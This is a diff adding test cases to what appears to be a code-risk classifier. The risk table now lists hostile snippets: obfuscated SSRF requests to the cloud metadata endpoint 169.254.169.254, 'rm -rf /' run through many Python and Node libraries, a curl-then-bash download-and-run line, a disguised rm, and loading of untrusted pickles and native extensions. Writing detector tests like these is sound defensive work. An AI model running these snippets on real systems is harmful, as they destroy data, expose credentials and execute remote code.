@@ -49,6 +49,63 @@ const programs: readonly (readonly [Language, RiskLevel, string])[] = [
   ['python', 'high', "import ctypes\nctypes.CDLL(None).system(b'id')"],
   ['python', 'critical', "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.system(b'rm -rf /')"],
   ['javascript', 'high', "process.binding('spawn_sync').spawn(options)"],
+  ['javascript', 'critical', "const { URL: U } = require('url'); fetch(new U('/x', 'http://169.254.169.254'))"],
+  ['javascript', 'critical', "fetch(URL.parse('/x', 'http://169.254.169.254'))"],
+  ['javascript', 'critical', "fetch(require('url').resolve('http://169.254.169.254', '/x'))"],
+  ['javascript', 'critical', "const u = new URL('https://ok.org/x'); u.hostname = '169.254.169.254'; fetch(u)"],
+  ['javascript', 'critical', "const u = new URL('https://ok.org/x'); u.href = 'http://169.254.169.254/'; fetch(u)"],
+  ['javascript', 'critical', "const axios = require('axios'); axios.get('/x', { baseURL: 'http://169.254.169.254' })"],
+  [
+    'javascript',
+    'critical',
+    "const axios = require('axios'); axios.create({ baseURL: 'http://169.254.169.254' }).get('/x')",
+  ],
+  ['javascript', 'critical', "fetch('http://[::ffff:169.254.169.254]/latest')"],
+  ['javascript', 'critical', "fetch('http://0251.0376.0251.0376/latest')"],
+  ['javascript', 'critical', "fetch('http://2852039166/latest')"],
+  ['python', 'critical', "import httpx\nhttpx.Client(base_url='http://169.254.169.254').get('/latest')"],
+  ['python', 'critical', "import aiohttp\naiohttp.ClientSession('http://169.254.169.254').get('/latest')"],
+  [
+    'python',
+    'critical',
+    "import requests\nfrom urllib.parse import urlunsplit\nrequests.get(urlunsplit(('http', '169.254.169.254', '/', '', '')))",
+  ],
+  ['python', 'critical', "import anyio\nawait anyio.run_process('rm -rf /')"],
+  ['python', 'critical', "import trio\nawait trio.run_process(['rm', '-rf', '/'])"],
+  ['python', 'critical', "import psutil\npsutil.Popen(['rm', '-rf', '/'])"],
+  ['python', 'critical', "from invoke import Context\nContext().run('rm -rf /')"],
+  ['python', 'critical', "from sh import contrib\ncontrib.sudo('rm', '-rf', '/')"],
+  ['python', 'medium', "from plumbum.cmd import rm\nrm['-rf', '/'] & FG"],
+  ['python', 'medium', "from plumbum import SshMachine\nSshMachine('h')['rm']('-rf', '/')"],
+  ['python', 'high', "import fsspec\nfs, p = fsspec.core.url_to_fs('/data')\nfs.rm('/data', recursive=True)"],
+  ['python', 'high', "from pyarrow import fs\nf, p = fs.FileSystem.from_uri('s3://b/x')\nf.delete_dir('b/x')"],
+  ['python', 'high', "from pyarrow import fs\nfs.copy_files('/data', 's3://other/x')"],
+  ['javascript', 'high', "new (require('vm').SourceTextModule)(code)"],
+  ['javascript', 'high', "require('/tmp/x.node')"],
+  ['javascript', 'medium', "require.extensions['.js'](module, '/tmp/x.js')"],
+  ['javascript', 'critical', "require('node-pty').spawn('bash', ['-c', 'rm -rf /'])"],
+  ['bash', 'medium', 'c=$(<cmds.txt); $c'],
+  ['bash', 'medium', 'read -ra c; "${c[@]}"'],
+  ['bash', 'medium', 'read; $REPLY'],
+  ['bash', 'medium', 'bash < cmds.txt'],
+  ['bash', 'medium', 'bash <(cat cmds.txt)'],
+  ['bash', 'medium', 'parallel < cmds.txt'],
+  ['bash', 'high', 'parallel rm < names'],
+  ['bash', 'medium', 'perl data.txt'],
+  [
+    'python',
+    'high',
+    "import subprocess, joblib\nsubprocess.run(['curl', '-o', 'm.pkl', 'https://a.org/m'])\njoblib.load('m.pkl')",
+  ],
+  ['python', 'high', "import boto3, joblib\nboto3.client('s3').download_file('b', 'k', 'm.pkl')\njoblib.load('m.pkl')"],
+  [
+    'python',
+    'high',
+    "from huggingface_hub import hf_hub_download\nimport joblib\njoblib.load(hf_hub_download('a/b', 'm.pkl'))",
+  ],
+  ['python', 'medium', "import sqlite3\nsqlite3.connect('x').load_extension('/tmp/x.so')"],
+  ['bash', 'critical', 'curl -o "$dir/run.sh" https://a.org/x; bash "$dir/run.sh"'],
+  ['bash', 'critical', 'x="rm$$"; ${x%%[0-9]*} -rf /'],
   ['python', 'critical', 'import countersign.jail as j\nj.libc.system(b"id")'],
   ['python', 'critical', "import sys\nsys.modules['countersign']"],
 ]
@@ -81,6 +138,18 @@ describe('what once went past the tables', () => {
   })
 })
 
+describe('a file of a program of its own', () => {
+  it.each(['perl a.pl', 'awk -f a.awk table', 'sed -f a.sed table'])('is unknown in its impact: %s', async code => {
+    const { impact } = await inspectCode(code, 'bash')
+    expect(impact.reversible).toBe('unknown')
+  })
+
+  it('reaches the network when it lies there', async () => {
+    const { impact } = await inspectCode("from smart_open import open\nopen('s3://b/x', 'w').write('s')", 'python')
+    expect(impact.blastRadius).toBe('network')
+  })
+})
+
 describe('a call into a library of which nothing is known', () => {
   it.each<[Language, string, string]>([
     ['python', "import somelib\nsomelib.destroy('x')", "somelib.destroy('x')"],
@@ -88,6 +157,7 @@ describe('a call into a library of which nothing is known', () => {
     ['javascript', "import lib from 'some-lib'\nlib.wipe('x')", "lib.wipe('x')"],
     ['typescript', "const { wipe } = require('@scope/lib'); wipe()", 'wipe()'],
     ['javascript', "import { wipe } from './local.js'\nwipe()", 'wipe()'],
+    ['python', 'import duckdb\nduckdb.sql(query)', 'duckdb.sql(query)'],
     ['python', "exec('import somelib\\nsomelib.destroy()')", "exec('import somelib\\nsomelib.destroy()')"],
   ])('in %s says that the impact is not known: %s', async (language, code, expression) => {
     const { risk, impact } = await inspectCode(code, language)
@@ -115,4 +185,10 @@ describe('a call into a library of which nothing is known', () => {
     const { impact } = await inspectCode('def f():\n    return 1\nf()\ntable.head()', 'python')
     expect(impact).toMatchObject({ reversible: 'yes', blastRadius: 'contained', volume: 'none' })
   })
+})
+
+it('does not take a variable of the environment for the name of a file', async () => {
+  const { impact } = await inspectCode("import shutil, os\nshutil.rmtree(os.path.expandvars('$TMPDIR/x'))", 'python')
+  expect(impact.filesDeleted).toMatchObject([{ target: null }])
+  expect(impact).toMatchObject({ reversible: 'no', blastRadius: 'local' })
 })
